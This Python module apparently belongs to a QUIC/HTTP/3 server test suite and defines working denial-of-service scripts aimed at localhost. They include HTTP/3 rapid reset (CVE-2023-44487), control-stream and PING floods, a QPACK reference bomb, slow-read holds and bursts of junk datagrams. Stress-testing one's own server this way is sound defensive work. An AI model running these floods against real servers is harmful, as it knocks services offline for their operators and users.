"""The attacks on HTTP/3 and QUIC: what a connection does when it is there, and what it goes on doing; or datagrams without any
connection. The client is that of the conformance suite: aioquic, and packets made by hand."""
import dataclasses
import os
import random
import struct
import sys
import typing

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../../tests/conformance"))

from h3.quic_packets import initial, long_header, mutated, short  # noqa: E402
from h3.wire import (  # noqa: E402
    DATA, ENCODER, PING, PRIORITY_UPDATE, capacity, crypto, data, frame, headers, insert, new_connection_id,
    reset_stream, section, stop_sending, stream_frame, varint)

ATTACKS_H3 = {}


@dataclasses.dataclass
class Script3:
    """What one attacking connection does. `c` is a `h3.client.Client`."""

    opened: typing.Callable = lambda c: None        # once, behind the handshake
    turn: typing.Callable = lambda c, n: 0          # again and again, n counting up: how many items it sent
    datagrams: typing.Callable = None               # instead of both: `(sock, n)`, without a connection
    read: bool = True                               # whether anything is read behind the handshake
    pause: float = 0.0                              # seconds between two turns
    connections: int = 4                            # at once, of one process
    client: dict = dataclasses.field(default_factory=dict)      # how the client is made
    growth: float = 0.0                             # MiB that the server may keep for it by its configuration; 0: as for all
    leave: bool = False                             # the connection is given up without a word behind its first turn


def attack(about):
    """Registers a function path → Script3 under its name."""
    def register(make):
        ATTACKS_H3[make.__name__] = (about, make)
        return make
    return register


def head(path, method="GET", extra=()):
    return headers(section([(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *extra]))


def requests(make, count=6):
    """Turns that open `count` streams in one packet, `make(stream)` each."""
    def turn(c, n):
        first = 4 * n * count
        if first // 4 + count > c.machine._remote_max_streams_bidi:
            c.wait(0.001)   # for more room
            if first // 4 + count > c.machine._remote_max_streams_bidi:
                return -1   # not this time
        c.inject(b"".join(make(first + 4 * k) for k in range(count)))
        return count
    return turn


@attack("requests, each reset at once (CVE-2023-44487 by HTTP/3)")
def h3_rapid_reset(path):
    h = head(path)
    return Script3(turn=requests(lambda s: stream_frame(s, h) + reset_stream(s, size=len(h))))


@attack("requests, each answer stopped at once")
def h3_stop_sending(path):
    h = head(path)
    return Script3(turn=requests(lambda s: stream_frame(s, h, fin=True) + stop_sending(s)))


@attack("requests that the server must reset: an upper-case field name")
def h3_made_you_reset(path):
    h = head(path, extra=[("X", "y")])
    return Script3(turn=requests(lambda s: stream_frame(s, h, fin=True)))


@attack("connections that break the protocol with their first frame, one after the other")
def h3_connection_errors(path):
    return Script3(turn=lambda c, n: c.inject(stream_frame(0, frame(DATA, b"x"))) or 1, leave=True)


def on_control(piece, count=100):
    def turn(c, n):
        c.send(c.control, piece * count)
        return count
    return turn


@attack("frames of unknown types on the control stream")
def h3_unknown_frames(path):
    return Script3(turn=on_control(frame(0x21)))


@attack("PRIORITY_UPDATE frames")
def h3_priority_flood(path):
    return Script3(turn=on_control(frame(PRIORITY_UPDATE, varint(0) + b"u=1")))


@attack("bodies of empty DATA frames")
def h3_empty_data(path):
    def turn(c, n):
        c.request(method="POST", path=path, more=data() * 200)
        return 200
    return Script3(turn=turn)


def packets(make, items):
    def turn(c, n):
        for k in range(8):
            c.inject(make(8 * n + k))
        return 8 * items
    return turn


@attack("packets full of PING frames")
def h3_ping_flood(path):
    return Script3(turn=packets(lambda n: PING * 1000, 1000))


@attack("packets of one PATH_CHALLENGE, each of which wants an answer of 1200 bytes")
def h3_path_challenge(path):
    return Script3(turn=packets(lambda n: b"\x1a" + n.to_bytes(8, "big"), 1))


@attack("new connection ids, each retiring the one before")
def h3_connection_ids(path):
    return Script3(turn=packets(lambda n: b"".join(
        new_connection_id(k, k, struct.pack(">Q", k)) for k in range(40 + 20 * n, 60 + 20 * n)), 20))


@attack("CRYPTO data in pieces of one byte with gaps between them")
def h3_crypto_gaps(path):
    return Script3(turn=packets(lambda n: b"".join(crypto(b"x", 2 * k) for k in range(n % 50 * 100, n % 50 * 100 + 100)), 100))


@attack("bodies in pieces of one byte with gaps between them, on as many streams as are allowed")
def h3_body_gaps(path):
    h = head(path, "POST") + b"\0\xc0" + b"\0" * 7

    def turn(c, n):
        stream, at = 4 * (n % 100), 200 + 400 * (n // 100)
        if at < 200_000:
            c.inject((stream_frame(stream, h) if n < 100 else b"") + b"".join(stream_frame(stream, b"x", k) for k in range(at, at + 400, 4)))
        return 100
    return Script3(turn=turn)


@attack("insertions into the QPACK table without end")
def h3_qpack_inserts(path):
    def opened(c):
        c.attack_stream = c.uni(varint(ENCODER) + capacity(4096))
    return Script3(opened, lambda c, n: c.send(c.attack_stream, insert("x-a", "v" * 20) * 40) or 40)


@attack("field sections of ten thousand references to one entry of 4,000 bytes")
def h3_qpack_bomb(path):
    def opened(c):
        c.uni(varint(ENCODER) + capacity(4096) + insert("x-a", "v" * 3900))
        c.wait(0.05)

    def turn(c, n):
        c.send(c.stream(), headers(b"\x02\0" + b"\xd1\xd7\xc1\x50\x09localhost" + b"\x80" * 10_000), fin=True)
        return 1
    return Script3(opened, turn, pause=0.005)


@attack("sections that wait for entries which never come, as many as are allowed")
def h3_qpack_blocked(path):
    def opened(c):
        for _ in range(16):
            c.send(c.stream(), headers(b"\x02\0" + b"x" * 1000))
    return Script3(opened, connections=50, pause=0.5)


@attack("slow read: 100 large answers on each of 50 connections, nothing is read")
def h3_slow_read(path):
    return Script3(lambda c: [c.request(path="/big") for _ in range(100)], read=False, connections=50, pause=0.5,
                   growth=64, client={"window": 1 << 24})     # send_buffer is 1 MiB


@attack("slow read: windows of 0, 100 large answers on each of 50 connections, acknowledged like any other")
def h3_zero_window(path):
    return Script3(lambda c: [c.request(path="/big") for _ in range(100)], connections=50, pause=0.2, growth=64,
                   client={"window": 64})


@attack("requests whose bodies never come, as many as are allowed, held")
def h3_half_bodies(path):
    return Script3(lambda c: [c.request(method="POST", path=path, end=False) for _ in range(100)], connections=50, pause=0.2)


@attack("heads that grow by one byte every half second")
def h3_slow_heads(path):
    def opened(c):
        c.attack_streams = []
        for _ in range(50):
            c.attack_streams.append(c.stream())
            c.send(c.attack_streams[-1], frame(1, b"\0\0", length=5000))

    def turn(c, n):
        for s in c.attack_streams:
            if s not in c.resets and s not in c.stops:
                c.send(s, b"\xd1")
        return len(c.attack_streams)
    return Script3(opened, turn, connections=20, pause=0.5)


@attack("connections left without a word behind one request")
def h3_left(path):
    return Script3(turn=lambda c, n: c.request(path=path) and 1, leave=True)


# --- without a connection

def burst(make, count=50):
    def send(sock, n):
        for k in range(count):
            sock.send(make(n * count + k))
        return count
    return send


@attack("first packets of handshakes that never go on")
def h3_handshakes(path):
    state = {}

    def make(n):
        if not state:
            from attacker_h3 import hello
            state["hello"], state["scid"] = hello()
        return initial(state["hello"], os.urandom(8), state["scid"])
    return Script3(datagrams=burst(make, 10), connections=1, growth=80)     # retry_after is 1000


@attack("packets of versions that nobody speaks")
def h3_versions(path):
    packet = long_header(0x1a2a3a4a).ljust(1200, b"\0")
    return Script3(datagrams=burst(lambda n: packet), connections=1)


@attack("short packets of connections that never were")
def h3_unknown_ids(path):
    return Script3(datagrams=burst(lambda n: short(os.urandom(8), 60)), connections=1)


@attack("noise, and packets that were changed a little")
def h3_noise(path):
    rng = random.Random(1)
    real = long_header(1).ljust(1200, b"\x11")
    return Script3(datagrams=burst(lambda n: mutated(rng, real) if n % 2 else rng.randbytes(rng.choice((21, 60, 1200)))),
                   connections=1)
